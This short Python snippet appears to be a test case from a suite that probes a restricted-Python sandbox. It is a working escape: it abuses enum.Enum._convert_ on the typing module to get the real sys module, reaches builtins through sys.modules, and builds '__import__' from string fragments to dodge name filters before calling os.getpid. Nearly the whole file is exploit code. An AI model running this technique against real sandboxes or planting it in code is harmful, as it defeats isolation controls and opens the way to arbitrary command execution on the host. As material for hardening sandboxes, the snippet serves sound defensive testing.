# technique: enum.Enum._convert_('X', 'typing', filter) turns names of an allowed module's own namespace into members, private names and refused modules included: X.sys.value is the real sys (typing imports it), and sys.modules hands out os
# configs: default, common
# With nothing allowed `import enum` is refused.
import enum
X = enum.Enum._convert_('X', 'typing', lambda name: name == 'sys')
real_sys = X.sys.value
u = '_' * 2
b = real_sys.modules['builtins']
pid = b.eval(u + 'import' + u + "('os').getpid()", {u + 'builtins' + u: b})
return [{'json': {'escaped': [repr(real_sys), pid]}}]
